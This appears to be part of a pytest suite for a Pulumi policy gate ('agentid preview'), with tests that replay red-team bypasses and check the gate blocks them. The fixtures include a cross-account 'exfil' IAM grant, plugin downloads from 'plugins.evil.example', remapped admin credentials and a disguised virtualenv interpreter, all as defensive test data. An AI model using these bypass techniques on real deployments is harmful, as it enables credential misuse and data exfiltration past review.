    for runtime, shown in (("yaml", "'yaml'"), ({"name": "nodejs", "options": {"typescript": False}}, "'nodejs'"),
                           (None, "missing")):
        changed = {key: value for key, value in original.items() if key != "runtime"}
        if runtime is not None:
            changed["runtime"] = runtime
        pulumi_yaml.write_text(yaml.safe_dump(changed))
        run = run_cli(project, *GUARD, "--json", "out.json")
        assert run.code == 2, (runtime, run.stdout)
        assert f"Pulumi.yaml: runtime: {shown}: agentid preview runs Python programs only" in run.stdout, run.stdout
    pulumi_yaml.write_text(yaml.safe_dump({**original, "runtime": "python"}))
    assert run_cli(project, *GUARD).code == 0  # the short form of python is python too


def test_a_stack_importing_an_esc_environment_gets_no_verdict(project: Path) -> None:
    """red7b f24: the stack file imported a Pulumi ESC environment; the program made an admin key only when that
    environment's config said so. The gate cannot open ESC offline and said PASS on config `pulumi up` never sees."""
    write_small(project, """
if pulumi.Config().get_bool("bootstrapAdmin"):
    aws.iam.AccessKey("bootstrap-key", user="bootstrap")
""")
    stack_file = project / "stacks" / "Pulumi.dev.yaml"
    stack_file.write_text("environment:\n  - acme/prod-bootstrap\n" + stack_file.read_text())
    run = run_cli(project, *GUARD)
    assert run.code == 2, run.stdout
    assert ("stacks/Pulumi.dev.yaml: environment: the stack imports acme/prod-bootstrap; agentid preview cannot "
            "open Pulumi ESC environments offline") in run.stdout


def test_an_azure_resource_with_a_user_assigned_identity_is_judged(project: Path) -> None:
    """red7b s02: the mocks echoed `identity.userAssignedIdentities` (a list of ids in) where the SDK expects
    Azure's answer (a map of id -> principal and client ids), so every such resource ended the run with exit 2."""
    write_small(project, """
import pulumi_azure_native as azure_native
azure_native.web.WebApp("portal", resource_group_name="rg", server_farm_id="farm",
    identity={"type": "UserAssigned", "user_assigned_identities": [
        "/subscriptions/0/resourceGroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/portal"]})
aws.iam.AccessKey("ci-key", user="ci-deployer")
""")
    run = run_cli(project, *GUARD, "--json", "out.json")
    assert run.code == 1, run.stdout  # judged: the access key blocks, the web app runs as its identity
    document = run.json("out.json")
    assert [v["resourceName"] for v in by_policy(document, "AGID-AWS-001")] == ["ci-key"]
    assert "portal" in {r["name"] for r in document["resources"]}


def _tiny_project(root: Path, key_when: str) -> None:
    (root / "__main__.py").write_text("import pulumi, pulumi_aws as aws\n"
                                      f"if pulumi.Config().get_bool({key_when!r}):\n"
                                      "    aws.iam.AccessKey('leak', user='ci')\n"
                                      "aws.s3.Bucket('logs')\n")


def test_the_gate_reads_the_project_and_stack_files_pulumi_reads(tmp_path: Path) -> None:
    """red8 1 and 2: a Pulumi.yml project's stack file is Pulumi.dev.yml (Pulumi names it after the project file's
    extension), and Pulumi.json comes before Pulumi.yaml; the gate read Pulumi.dev.yaml and only .yaml/.yml, so
    the config or program `pulumi up` would use was never judged."""
    yml = tmp_path / "yml"
    yml.mkdir()
    (yml / "Pulumi.yml").write_text("name: acme\nruntime: python\n")
    (yml / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    (yml / "Pulumi.dev.yml").write_text("config:\n  aws:region: eu-west-1\n  acme:makeKey: true\n")
    _tiny_project(yml, "makeKey")
    run = run_cli(yml, *GUARD, "--json", "out.json")
    assert run.code == 1 and [v["resourceName"] for v in by_policy(run.json("out.json"), "AGID-AWS-001")] == ["leak"]

    both = tmp_path / "both"
    both.mkdir()
    (both / "Pulumi.json").write_text('{"name": "acme", "runtime": "python", "main": "evil"}')
    (both / "Pulumi.yaml").write_text("name: acme\nruntime: python\n")
    (both / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    _tiny_project(both, "never")
    run = run_cli(both, *GUARD)
    assert run.code == 2 and "Pulumi.json and Pulumi.yaml are both project files: Pulumi reads Pulumi.json only" \
        in run.stdout, run.stdout


def test_a_virtualenv_whose_python_is_a_script_gets_no_verdict(tmp_path: Path) -> None:
    """red8 3: runtime.options.virtualenv named a folder whose bin/python was a committed script running another
    program; `pulumi up` would run it, the gate ran its own interpreter on __main__.py and said PASS."""
    (tmp_path / "Pulumi.yaml").write_text("name: acme\nruntime:\n  name: python\n  options:\n    virtualenv: penv\n")
    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    _tiny_project(tmp_path, "never")
    script = tmp_path / "penv" / "bin" / "python"
    script.parent.mkdir(parents=True)
    script.write_text("#!/bin/sh\nexec python3 evil_main.py\n")
    script.chmod(0o755)
    run = run_cli(tmp_path, *GUARD)
    assert run.code == 2 and "penv/bin/python is not a Python interpreter" in run.stdout, run.stdout
    shutil.rmtree(tmp_path / "penv")
    make_virtualenv(tmp_path / "penv")  # a real virtualenv: a link to a Python install, pyvenv.cfg
    assert run_cli(tmp_path, *GUARD).code == 0


def test_an_untyped_project_config_declaration_reaches_the_program_as_pulumi_gives_it(tmp_path: Path) -> None:
    """red9b 1: `makeKey: {default: true}` in Pulumi.yaml (no `type:`) gives the program `true` at `pulumi up`;
    the gate handed it the JSON text of the mapping, so the branch creating the key was never judged."""
    (tmp_path / "Pulumi.yaml").write_text("name: acme\nruntime: python\nconfig:\n  makeKey:\n    default: true\n")
    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n")
    _tiny_project(tmp_path, "makeKey")
    run = run_cli(tmp_path, *GUARD, "--json", "out.json")
    assert run.code == 1 and [v["resourceName"] for v in by_policy(run.json("out.json"), "AGID-AWS-001")] == ["leak"]
    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n  makeKey: false\n")
    assert run_cli(tmp_path, *GUARD).code == 0  # the stack file overrides the declaration's default


FORCE_FEATURE = "from pulumi.runtime import settings\nsettings.SETTINGS.monitor_features.add({feature})\n"


@pytest.mark.parametrize(("feature", "snippet", "message"), [
    ("RESOURCE_HOOKS", """
        def after_create(args):
            pass  # at `pulumi up`: boto3 creates an admin user and its key with the deployer's credentials
        hook = pulumi.ResourceHook("provision", after_create)
        aws.s3.Bucket("reports", opts=pulumi.ResourceOptions(hooks=pulumi.ResourceHookBinding(after_create=[hook])))
     """, "the program registers resource hook 'provision'"),
    ("ERROR_HOOKS", """
        def retry(args):
            return True
        hook = pulumi.ErrorHook("again", retry)
        aws.s3.Bucket("reports", opts=pulumi.ResourceOptions(hooks=pulumi.ResourceHookBinding(on_error=[hook])))
     """, "the program registers error hook 'again'"),
    ("INVOKE_TRANSFORMS", """
        def widen(args):
            return pulumi.InvokeTransformResult(args={"statements": [{"actions": ["*"], "resources": ["*"]}]},
                                                opts=args.opts)
        pulumi.runtime.register_invoke_transform(widen)
        doc = aws.iam.get_policy_document(statements=[{"actions": ["s3:GetObject"], "resources": ["*"]}])
     """, "the program registers an invoke transform"),
])
def test_callbacks_the_engine_runs_at_pulumi_up_get_no_verdict(project: Path, feature: str, snippet: str,
                                                              message: str) -> None:
    """red9b 2 and 3b: a program that told the SDK the monitor supports hooks / invoke transforms (a no-op under a
    real engine, which does) had them accepted and ignored: PASS, while `pulumi up` would run them."""
    forced = FORCE_FEATURE.format(feature=f"pulumi.runtime.proto.resource_pb2.RESOURCE_MONITOR_FEATURE_{feature}")
    write_program(project, extra="import pulumi.runtime.proto.resource_pb2\n" + forced + textwrap.dedent(snippet))
    run = run_cli(project, *GUARD)
    assert run.code == 2 and message in run.stdout, run.stdout
    write_program(project, extra=textwrap.dedent(snippet))  # unforced: the SDK itself refuses (no such feature)
    assert run_cli(project, *GUARD).code == 2


def test_outputs_registered_over_a_custom_resource_get_no_verdict(project: Path) -> None:
    """red19 r19-4: RegisterResourceOutputs on a custom resource laid the program's values over the inputs every
    stack rule judged (a foreign-account grant passed as the own-bucket read it claimed); the deployment applies
    the registered inputs. Only components and the stack register outputs; a component's still reach the packs."""
    foreign = 'exfil = aws.iam.RolePolicy("exfil", role="agent", policy=json.dumps({"Version": "2012-10-17", "Statement": [' \
              '{"Effect": "Allow", "Action": "dynamodb:PutItem", ' \
              '"Resource": "arn:aws:dynamodb:us-east-1:999988887777:table/drop"}]}))\n'
    write_small(project, foreign + textwrap.dedent("""\
        pulumi.runtime.resource.register_resource_outputs(exfil, {"policy": json.dumps({"Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]})})
    """))
    run = run_cli(project, *GUARD, "--own-account", "111122223333")
    assert run.code == 2, run.stdout
    assert "registered outputs for the custom resource 'urn:pulumi:dev::" in run.stdout, run.stdout
    assert "aws:iam/rolePolicy:RolePolicy::exfil'" in run.stdout, run.stdout
    write_small(project, foreign)  # the same grant without the overlay is judged
    run = run_cli(project, *GUARD, "--own-account", "111122223333")
    assert run.code == 1 and "AGID-AWS-072" in run.stdout, run.stdout
    write_small(project, textwrap.dedent("""\
        class Box(pulumi.ComponentResource):
            def __init__(self, name):
                super().__init__("demo:index:Box", name)
                self.register_outputs({"size": 3})
        Box("box")
    """))
    assert run_cli(project, *GUARD, "--own-account", "111122223333").code == 0


@pytest.mark.parametrize("account, code", [("999988887777", 1), ("111122223333", 0)])
def test_an_object_the_program_reads_is_in_the_account_its_id_names(project: Path, account: str, code: int) -> None:
    """red19 r19-7: `Queue.get` / `Table.get` / `Topic.get` of another account's object answered with an ARN in
    the mocks' account, which an Output of a stack resource is judged by: the agent's role could ship data to
    999988887777 (AGID-AWS-072). The id names the account; a listed own account's objects pass."""
    write_small(project, f"""\
role = aws.iam.Role("agent-role", assume_role_policy=json.dumps({{"Version": "2012-10-17", "Statement": [
    {{"Effect": "Allow", "Principal": {{"Service": "lambda.amazonaws.com"}}, "Action": "sts:AssumeRole"}}]}}))
def send(name, arn):
    aws.iam.RolePolicy(name, role=role.name, policy=arn.apply(lambda a: json.dumps({{"Version": "2012-10-17",
        "Statement": [{{"Effect": "Allow", "Action": ["sqs:SendMessage", "dynamodb:PutItem", "sns:Publish"],
                        "Resource": [a]}}]}})))
send("via-queue", aws.sqs.Queue.get("q", "https://sqs.us-east-1.amazonaws.com/{account}/drop").arn)
send("via-table", aws.dynamodb.Table.get("t", "arn:aws:dynamodb:us-east-1:{account}:table/drop").arn)
""")
    run = run_cli(project, *GUARD, "--own-account", "111122223333")
    assert run.code == code, run.stdout
    flagged = {line.split()[3] for line in run.stdout.splitlines() if line.startswith("MANDATORY") and "AWS-072" in line}
    assert flagged == ({"via-queue", "via-table"} if code else set()), run.stdout


def test_an_archive_beside_a_secret_is_judged_and_the_secret_stays_hidden(project: Path) -> None:
    # red12 #13: a resource holding an Asset/Archive and a secret (a Lambda with code and a secret environment
    # variable, the pattern Pulumi documents) sent the report's secret masking into endless recursion: no verdict
    write_program(project, extra='''
        import json
        fn_role = aws.iam.Role("fn-role", assume_role_policy=json.dumps({"Version": "2012-10-17", "Statement": [{
            "Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}))
        aws.lambda_.Function("fn", role=fn_role.arn, runtime="python3.12", handler="index.handler",
            code=pulumi.AssetArchive({"index.py": pulumi.StringAsset("def handler(e, c): return 1"),
                                      "lib": pulumi.AssetArchive({"x.txt": pulumi.StringAsset("x")})}),
            environment={"variables": {"DB_PASSWORD": pulumi.Output.secret("s3cr3t-in-env")}})
    ''')
    run = run_cli(project, "--json", "out.json")
    assert run.code in (0, 1), run.stdout
    assert "s3cr3t-in-env" not in run.stdout + run.stderr + (project / "out.json").read_text()
    [fn] = [r for r in run.json("out.json")["resources"] if r["name"] == "fn"]
    assert fn["inputs"]["environment"] == {"variables": {"DB_PASSWORD": "[secret]"}}


@pytest.mark.parametrize(("snippet", "message"), [
    ("""
        aws.Provider("swap", region="eu-west-1", opts=pulumi.ResourceOptions(env_var_mappings={
            "PROD_ADMIN_AWS_ACCESS_KEY_ID": "AWS_ACCESS_KEY_ID", "CORP_PROXY": "HTTPS_PROXY"}))
     """, "pulumi:providers:aws 'swap' sets envVarMappings"),
    ("""
        aws.s3.Bucket("data", opts=pulumi.ResourceOptions(version="7.99.0",
                                                         plugin_download_url="https://plugins.evil.example/pulumi/"))
     """, "aws:s3/bucket:Bucket 'data' sets pluginDownloadURL"),
    ("""
        aws.s3.Bucket.get("seen", "seen", opts=pulumi.ResourceOptions(plugin_download_url="https://plugins.evil.example/"))
     """, "aws:s3/bucket:Bucket 'seen' (read) sets pluginDownloadURL"),
    ("""
        from pulumi.runtime.proto import resource_pb2 as _pb
        from pulumi.runtime.settings import get_monitor as _monitor
        _monitor().RegisterPackage(_pb.RegisterPackageRequest(name="terraform-provider", version="0.99.0",
                                                              download_url="https://plugins.evil.example/pulumi/"))
     """, "registers package terraform-provider@0.99.0 with a download URL"),
])
def test_request_fields_that_change_what_pulumi_up_runs_get_no_verdict(project: Path, snippet: str, message: str) -> None:
    """red18 r18-1, r18-5: env_var_mappings and plugin downloads were fields the gate never read (PASS, while `pulumi
    up` would take another credential from the job's environment, or run a provider binary from the PR's URL)."""
    write_program(project, extra=textwrap.dedent(snippet))
    run = run_cli(project, *GUARD)
    assert run.code == 2 and message in run.stdout, run.stdout


# what pulumi_aws sends by default (its _utilities.get_version()), without importing it into the gate's process: a
# program forked from it would find pulumi_aws already registered
AWS_SDK = __import__("agentid.preview.sdk_versions", fromlist=["semver"]).semver(
    __import__("importlib.metadata", fromlist=["version"]).version("pulumi_aws"))
OLD_AWS = ("`pulumi up` would run the {asked} provider, whose defaults and semantics are not those the packs judge "
           "with; pin the pulumi_aws release you need in requirements instead of the option")


@pytest.mark.parametrize(("snippet", "what", "asked"), [
    ('aws.s3.Bucket("pinned", opts=pulumi.ResourceOptions(version="5.0.0"))', "aws:s3/bucket:Bucket 'pinned'",
     "5.0.0"),
    ('old = aws.Provider("old", opts=pulumi.ResourceOptions(version="4.0.0"))\n'
     'aws.s3.Bucket("through-old", opts=pulumi.ResourceOptions(provider=old))', "pulumi:providers:aws 'old'", "4.0.0"),
    ('aws.s3.Bucket.get("seen", "seen", opts=pulumi.ResourceOptions(version="6.0.0"))',
     "aws:s3/bucket:Bucket 'seen' (read)", "6.0.0"),
    ('aws.get_caller_identity(opts=pulumi.InvokeOptions(version="5.0.0"))',
     "invoke aws:index/getCallerIdentity:getCallerIdentity", "5.0.0"),
    ('aws.s3.Bucket("pre", opts=pulumi.ResourceOptions(version=pulumi_aws_next))',
     "aws:s3/bucket:Bucket 'pre'", AWS_SDK + "-alpha.1"),
    ('from pulumi.runtime.proto import resource_pb2 as _pb\nfrom pulumi.runtime.settings import get_monitor as _m\n'
     '_m().RegisterPackage(_pb.RegisterPackageRequest(name="aws", version="5.0.0"))',
     "the program registers package aws@5.0.0: it", "5.0.0"),
])
def test_a_request_for_another_provider_release_gets_no_verdict(project: Path, snippet: str, what: str,
                                                                 asked: str) -> None:
    """red19 r19-10: `ResourceOptions(version=...)` makes `pulumi up` run that provider release, which the packs do
    not judge with; `version` was a reviewed field nobody read (PASS)."""
    write_small(project, f"pulumi_aws_next = {AWS_SDK + '-alpha.1'!r}\n" + snippet)
    run = run_cli(project, *GUARD)
    assert run.code == 2, run.stdout
    assert (f"agentid preview: {what} asks for provider aws {asked} (ResourceOptions version) while the program's "
            f"environment has pulumi_aws {AWS_SDK} installed: " + OLD_AWS.format(asked=asked)) in run.stdout, run.stdout


def test_the_installed_release_asked_explicitly_is_judged(project: Path) -> None:
    # the look-alike: the version every SDK request carries by default, written out, is the installed provider
    write_small(project, f'aws.s3.Bucket("pinned", opts=pulumi.ResourceOptions(version={AWS_SDK!r}))\n'
                         f'aws.get_caller_identity(opts=pulumi.InvokeOptions(version={AWS_SDK!r}))\n'
                         'from pulumi.runtime.proto import resource_pb2 as _pb\n'
                         'from pulumi.runtime.settings import get_monitor as _m\n'
                         f'_m().RegisterPackage(_pb.RegisterPackageRequest(name="aws", version={AWS_SDK!r}))\n'
                         'aws.iam.AccessKey("leak", user="ci", opts=pulumi.ResourceOptions(version='
                         f'{AWS_SDK!r}))')
    run = run_cli(project, *GUARD)
    assert run.code == 1 and "ResourceOptions version" not in run.stdout, run.stdout
    assert any(line.startswith("MANDATORY") and "AGID-AWS-001" in line and "leak" in line
               for line in run.stdout.splitlines()), run.stdout


def test_the_release_compared_is_the_one_the_projects_virtualenv_installs(tmp_path: Path) -> None:
    """The program runs with the project's virtualenv (project_runtime): its pulumi_aws distribution is the release
    the SDK sends by default and the one an explicit version is compared with, not the gate's own."""
    from .test_project_runtime import VENV_PROJECT, small_project
    program = ("import pulumi, pulumi_aws as aws\n"
               "aws.iam.AccessKey('leak', user='ci')\n"
               "if __import__('os').path.exists('ask-gate-release'):\n"
               f"    aws.s3.Bucket('pinned', opts=pulumi.ResourceOptions(version={AWS_SDK!r}))\n")
    project = small_project(tmp_path / "p", program, VENV_PROJECT)
    make_virtualenv(project / "venv")
    [packages] = (project / "venv" / "lib").glob("python*/site-packages")
    # a pulumi_aws 6.66.0 distribution found before the kit's (its module files come from the kit's folder)
    (packages / "pulumi_aws-6.66.0.dist-info").mkdir()
    (packages / "pulumi_aws-6.66.0.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: pulumi_aws\nVersion: 6.66.0\n")
    run = run_cli(project, *GUARD, "--stack", "dev")
    assert run.code == 1 and "ResourceOptions version" not in run.stdout, run.stdout  # 6.66.0 sent and installed
    (project / "ask-gate-release").write_text("")
    run = run_cli(project, *GUARD, "--stack", "dev")
    assert run.code == 2, run.stdout
    assert (f"aws:s3/bucket:Bucket 'pinned' asks for provider aws {AWS_SDK} (ResourceOptions version) while the "
            "program's environment has pulumi_aws 6.66.0 installed") in run.stdout, run.stdout


def test_a_request_field_the_gate_has_not_reviewed_fails_closed() -> None:
    """A field a newer SDK sets that the gate has not reviewed stops the run instead of passing unread; every field
    the installed SDK's requests have is either reviewed or refused (so this SDK's programs are judged)."""
    from pulumi.runtime.proto import resource_pb2

    from agentid.preview.monitor import FIELD_REASONS, REFUSED_FIELDS, REVIEWED_FIELDS, unreviewed_fields

    assert set(REVIEWED_FIELDS) == {"RegisterResourceRequest", "ReadResourceRequest", "ResourceInvokeRequest",
                                    "ResourceCallRequest", "RegisterResourceOutputsRequest"}
    for kind, reviewed in REVIEWED_FIELDS.items():
        fields = {f.name for f in getattr(resource_pb2, kind).DESCRIPTOR.fields}
        assert fields <= reviewed | set(REFUSED_FIELDS), (kind, sorted(fields - reviewed - set(REFUSED_FIELDS)))
        # "reviewed" says why: what the gate does with the field, or why it cannot change what is deployed beyond
        # what the packs judge (red19 r19-10: `version` was reviewed and read by nothing)
        assert all(len(FIELD_REASONS.get(name, "")) > 10 for name in reviewed), (
            kind, sorted(name for name in reviewed if len(FIELD_REASONS.get(name, "")) <= 10))
        assert not reviewed & set(REFUSED_FIELDS), kind
    request = resource_pb2.RegisterResourceRequest(type="aws:s3/bucket:Bucket", name="b", snippetId="x")
    assert unreviewed_fields(request) == []
    request.envVarMappings["A"] = "AWS_ACCESS_KEY_ID"
    [problem] = unreviewed_fields(request)
    assert problem.startswith("sets envVarMappings: it maps environment variables")
    pruned = {kind: reviewed - {"snippetId"} for kind, reviewed in REVIEWED_FIELDS.items()}
    import agentid.preview.monitor as monitor
    original = monitor.REVIEWED_FIELDS
    try:
        monitor.REVIEWED_FIELDS = pruned
        assert unreviewed_fields(resource_pb2.RegisterResourceRequest(snippetId="x")) == [
            "sets snippetId, a RegisterResourceRequest field this gate has not reviewed (what it changes at "
            "`pulumi up` cannot be judged)"]
    finally:
        monitor.REVIEWED_FIELDS = original
